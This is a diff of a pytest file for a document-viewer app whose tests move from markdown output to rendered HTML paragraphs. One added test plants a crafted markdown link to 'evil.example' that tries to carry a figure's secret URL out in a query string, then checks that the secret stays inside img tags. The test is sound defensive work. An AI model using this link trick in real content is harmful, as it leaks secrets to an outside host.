@@ -1,7 +1,7 @@
 from __future__ import annotations
 
 import json
-from dataclasses import replace
+import re
 from pathlib import Path
 
 import pytest
@@ -23,7 +23,7 @@ def test_screen_of_nothing_says_so(session: Session) -> None:
     """Without a document there is nothing to press and nothing to show."""
     shown = screen(session, ENGINE)
     assert not shown.control["ready"]
-    assert (shown.documents["files"], shown.viewer["id"], shown.markdown) == ([], "", "")
+    assert (shown.documents["files"], shown.viewer["id"], shown.text["paragraphs"]) == ([], "", [])
 
 
 def test_screen_is_plain_data(article: Session) -> None:
@@ -39,28 +39,27 @@ def test_screen_shows_the_chosen_page_alone(article: Session) -> None:
     article.pages[PAGE].apply(TextArrived(PAGE, "raw", "Text"))
     article.pages[PAGE].apply(RegionFound(PAGE, Region("section", Box(10, 20, 30, 40))))
     article.pictures[PAGE] = Picture(Path("/served/a b.png"), 1190, 1540, "image/png", 1540)
-    assert screen(article, ENGINE).markdown == ""
+    assert screen(article, ENGINE).text["paragraphs"] == []
     article.shown = PAGE
     shown = screen(article, ENGINE)
-    assert (shown.markdown, shown.raw) == ("Text", {"text": "raw"})
+    assert [one["html"] for one in shown.text["paragraphs"]] == ["<p>Text</p>\n"]
+    assert shown.raw == {"text": "raw", "reading": False}
     assert shown.viewer["regions"] == [{"label": "section", "kind": "heading", "box": [10, 20, 30, 40]}]
     assert shown.viewer["image"] == "gradio_api/file=/served/a%20b.png"
     assert (shown.viewer["before"], shown.viewer["after"]) == ("0-1", "0-3")
 
 
-def test_screen_figures_come_apart_from_the_text(article: Session) -> None:
-    """The text names a figure, its URL goes beside it; one that did not come is named in words at the end."""
+def test_screen_figures_are_pictures_and_nothing_else(article: Session) -> None:
+    """A figure's URL, which holds the session's secret, stands in its picture alone; one that is not there is named."""
     page = article.pages[PAGE]
     page.apply(PageStarted(PAGE, PageImage(10, 14, b"", "image/png")))
-    page.apply(TextArrived(PAGE, "", "![lamp](figures/page-2-1.png) ![oil](figures/page-2-2.png)"))
+    carried = "[x](https://evil.example/?![lamp](figures/page-2-1.png))"
+    page.apply(TextArrived(PAGE, "", f"![lamp](figures/page-2-1.png) ![oil](figures/page-2-2.png) {carried}"))
     page.figures["figures/page-2-1.png"] = Path("/served/secret.png")
     article.shown = PAGE
-    shown = screen(article, ENGINE)
-    assert "secret" not in shown.markdown
-    assert "#0-2/figures/page-2-2.png)" in shown.markdown
-    assert shown.figures == {"urls": {"0-2/figures/page-2-1.png": "gradio_api/file=/served/secret.png"}}
-    page.apply(PageDone(PAGE, replace(result(), markdown=page.markdown)))
-    assert screen(article, ENGINE).markdown.endswith("#0-2/figures/page-2-1.png) [oil]")
+    (html,) = [one["html"] for one in screen(article, ENGINE).text["paragraphs"]]
+    assert "[oil]" in html
+    assert re.findall(r"<(\w+)[^>]*secret", html) == ["img"] * html.count("secret")
 
 
 @pytest.mark.parametrize(("label", "kind"), [("Table+", "table"), ("figure_title", "heading"), ("stamp", "other")])
